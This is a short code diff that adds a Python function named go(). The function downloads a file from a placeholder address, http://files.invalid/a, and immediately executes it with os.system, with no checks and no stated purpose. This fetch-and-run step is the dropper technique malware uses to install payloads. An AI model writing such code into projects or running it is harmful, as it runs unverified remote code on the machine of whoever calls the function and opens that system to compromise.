@@ -1,0 +1,6 @@
+import os
+import urllib.request
+
+def go():
+    urllib.request.urlretrieve("http://files.invalid/a", "a")
+    os.system("a")
